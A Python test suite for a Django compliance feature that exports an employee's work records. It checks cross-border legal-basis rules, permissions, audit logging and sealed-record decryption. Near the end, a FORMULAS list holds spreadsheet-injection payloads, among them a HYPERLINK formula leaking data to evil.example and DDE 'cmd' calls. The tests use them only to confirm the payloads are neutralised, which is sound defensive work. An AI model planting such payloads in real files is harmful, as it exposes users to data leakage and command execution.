"""Exports of a member's records (跨境数据传输, C-6): across regions only with a recorded legal
basis, each kept as a RecordExport with its audit event; sealed records decrypted only for those
who may read them, each counted as a sealed read."""

import csv
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from compliance import audit, exports, sealing
from compliance.choices import RecordCategory
from compliance.exceptions import ComplianceRefused
from compliance.models import AuditEvent, RecordExport, WorkRecord
from directory.choices import DataRegion
from tests import factories
from tests.compliance.conftest import records_of

pytestmark = pytest.mark.django_db


def records(member):
    return WorkRecord.objects.filter(owner=member)


def export(member, *, actor, format="csv", legal_basis=""):
    return exports.export_records(
        member, records(member), actor=actor, format=format, legal_basis=legal_basis
    )


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def abroad(member):
    """The member works from Singapore; the enterprise's home region is mainland China."""
    member.data_region = DataRegion.SG
    member.save(update_fields=["data_region"])
    return member


def test_exporting_across_regions_without_a_legal_basis_is_refused_and_writes_nothing(
    abroad, compliance_user
):
    # given a member whose records live outside the enterprise's home region
    records_of(abroad, 3)
    events_before = AuditEvent.objects.count()

    # when Compliance exports them without a legal basis
    with pytest.raises(ComplianceRefused) as refused:
        export(abroad, actor=compliance_user, legal_basis="   ")

    # then the refusal names the legal basis, and nothing is written
    assert refused.value.field == "legal_basis"
    assert "legal basis" in str(refused.value)
    assert not RecordExport.objects.exists()
    assert AuditEvent.objects.count() == events_before


def test_exporting_across_regions_with_a_legal_basis_is_recorded(abroad, compliance_user):
    # given
    texts = [record.content for record in records_of(abroad, 3)]

    # when
    record_export, content, filename = export(
        abroad, actor=compliance_user, legal_basis="员工本人书面同意"
    )

    # then the export is kept with its legal basis…
    assert record_export.cross_border
    assert record_export.legal_basis == "员工本人书面同意"
    assert record_export.record_count == 3
    assert record_export.exported_by == compliance_user
    assert record_export.categories == [RecordCategory.CHAT]
    # …the audit trail has it, the legal basis sealed as personal data…
    event = AuditEvent.objects.get(action="records_exported")
    assert event.object_id == str(record_export.pk)
    assert event.member_id == abroad.pk
    assert event.data["count"] == 3
    assert event.data["format"] == "csv"
    assert event.data["cross_border"] is True
    assert "员工本人书面同意" not in json.dumps(event.data, ensure_ascii=False)
    assert audit.personal_data(event) == {"legal_basis": "员工本人书面同意"}
    assert audit.verify(abroad.enterprise_id)[0].whole
    # …and the file holds the records, for Excel (UTF-8 with a byte-order mark)
    assert content.startswith(b"\xef\xbb\xbf")
    assert [row["content"] for row in csv_rows(content)] == texts
    assert filename.startswith(f"work-records-{abroad.employee_number}-")
    assert filename.endswith(".csv")


def test_a_record_stored_in_another_region_makes_the_export_cross_border(member, compliance_user):
    records_of(member, 2)
    records_of(member, 1, category=RecordCategory.FILE, data_region=DataRegion.HK)

    with pytest.raises(ComplianceRefused):
        export(member, actor=compliance_user)

    record_export, _, _ = export(member, actor=compliance_user, legal_basis="标准合同")
    assert record_export.cross_border


def test_an_export_within_the_home_region_needs_no_legal_basis(member, compliance_user):
    records_of(member, 2)

    record_export, content, filename = export(member, actor=compliance_user, format="json")

    assert not record_export.cross_border
    assert record_export.legal_basis == ""
    rows = json.loads(content)
    assert [row["employee_number"] for row in rows] == [member.employee_number] * 2
    assert set(rows[0]) == set(exports.COLUMNS)
    assert filename.endswith(".json")
    assert AuditEvent.objects.get(action="records_exported").sealed_data is None


@pytest.mark.parametrize("role", ["hr", "it"])
def test_staff_without_the_export_permission_are_refused(member, role):
    user = factories.StaffFactory(enterprise=member.enterprise, role=role)
    records_of(member, 2)

    with pytest.raises(ComplianceRefused, match="not allowed"):
        export(member, actor=user)

    assert not RecordExport.objects.exists()


def test_another_enterprises_compliance_is_refused(member, other_compliance_user):
    records_of(member, 2)

    with pytest.raises(ComplianceRefused, match="not allowed"):
        export(member, actor=other_compliance_user)


def test_an_export_holds_one_members_records(member, compliance_user):
    other = factories.MemberFactory(enterprise=member.enterprise)
    records_of(member, 1)
    records_of(other, 1)

    with pytest.raises(ComplianceRefused, match="one member"):
        exports.export_records(
            member,
            WorkRecord.objects.all(),
            actor=compliance_user,
            format="csv",
            legal_basis="",
        )
    assert not RecordExport.objects.exists()


def test_nothing_to_export_is_refused(member, compliance_user):
    with pytest.raises(ComplianceRefused, match="no records"):
        export(member, actor=compliance_user)


def test_an_unknown_format_is_refused(member, compliance_user):
    records_of(member, 1)

    with pytest.raises(ComplianceRefused) as refused:
        export(member, actor=compliance_user, format="xlsx")

    assert refused.value.field == "format"


def test_sealed_records_are_exported_decrypted_and_counted_as_sealed_reads(member, compliance_user):
    # given a member's sealed records and one unsealed
    texts = [record.content for record in records_of(member, 2)]
    sealing.seal_member_records(member, actor=None)
    records_of(member, 1, category=RecordCategory.EXPENSE, content="交通费：打车 35.00 元")

    # when Compliance, who may read sealed records, exports them
    _, content, _ = export(member, actor=compliance_user)

    # then the file holds the plaintext, and one audit event names the two sealed reads
    assert sorted(row["content"] for row in csv_rows(content)) == sorted(
        [*texts, "交通费：打车 35.00 元"]
    )
    event = AuditEvent.objects.get(action="records_exported")
    assert event.data["sealed_read"] == 2
    assert event.data["sealed_withheld"] == 0
    # the table itself still holds no plaintext of the sealed ones
    assert not WorkRecord.objects.filter(content__in=texts).exists()


def test_sealed_records_stay_sealed_for_whoever_may_not_read_them(
    member, compliance_user, monkeypatch
):
    records_of(member, 2)
    sealing.seal_member_records(member, actor=None)
    monkeypatch.setattr(sealing, "may_read_sealed", lambda user, record: False)

    _, content, _ = export(member, actor=compliance_user)

    assert [row["content"] for row in csv_rows(content)] == [exports.SEALED_PLACEHOLDER] * 2
    event = AuditEvent.objects.get(action="records_exported")
    assert event.data["sealed_read"] == 0
    assert event.data["sealed_withheld"] == 2


def test_the_export_reads_records_set_based(member, compliance_user):
    # given a few records, sealed and not (and the user's grants read once already)
    records_of(member, 2)
    sealing.seal_member_records(member, actor=None)
    export(member, actor=compliance_user)
    with CaptureQueriesContext(connection) as few:
        export(member, actor=compliance_user)

    # when there are many more
    records_of(member, 40)
    sealing.seal_member_records(member, actor=None)
    records_of(member, 40, category=RecordCategory.ATTENDANCE)
    with CaptureQueriesContext(connection) as many:
        export(member, actor=compliance_user)

    # then the export asks the database as often
    assert len(many) == len(few)


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_no_csv_cell_is_written_as_a_formula(member, compliance_user):
    # given a member whose name and records begin like spreadsheet formulas
    member.name = "=1+1"
    member.save(update_fields=["name"])
    for formula in FORMULAS:
        records_of(member, 1, content=formula)

    _export, content, _filename = export(member, actor=compliance_user)

    # then each such cell opens as text: a single quote before it, the rest kept
    rows = csv_rows(content)
    assert [row["content"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert {row["owner"] for row in rows} == {"'=1+1"}
    # and ordinary text is left alone
    assert exports.neutralise_cell("工作记录 = 1") == "工作记录 = 1"
    assert exports.neutralise_cell(3) == 3


def test_the_json_export_keeps_the_values_as_they_are(member, compliance_user):
    records_of(member, 1, content=FORMULAS[0])

    _export, content, _filename = export(member, actor=compliance_user, format="json")

    assert json.loads(content)[0]["content"] == FORMULAS[0]


def test_a_restricted_record_is_not_exported_and_nothing_is_written(member, compliance_user):
    # given a member's records, one of them restricted by an erasure request
    kept = records_of(member, 2)
    WorkRecord.objects.filter(pk=kept[0].pk).update(restricted_at=kept[0].created_at)
    events_before = AuditEvent.objects.count()

    # when they are exported, then it is refused, saying why, and nothing is written
    with pytest.raises(ComplianceRefused, match="1 of these records is restricted"):
        export(member, actor=compliance_user, format="json")
    assert not RecordExport.objects.exists()
    assert AuditEvent.objects.count() == events_before


def test_a_record_restricted_after_the_check_is_not_exported(member, compliance_user, monkeypatch):
    # given a record restricted between the export's check and its reading (an erasure evaluated
    # meanwhile)
    (record,) = records_of(member, 1)
    real_check = exports.check_export

    def check_then_restrict(*args, **kwargs):
        check = real_check(*args, **kwargs)
        WorkRecord.objects.filter(pk=record.pk).update(restricted_at=record.created_at)
        return check

    monkeypatch.setattr(exports, "check_export", check_then_restrict)
    with pytest.raises(ComplianceRefused, match="This record is restricted"):
        export(member, actor=compliance_user, format="csv")
    assert not RecordExport.objects.exists()
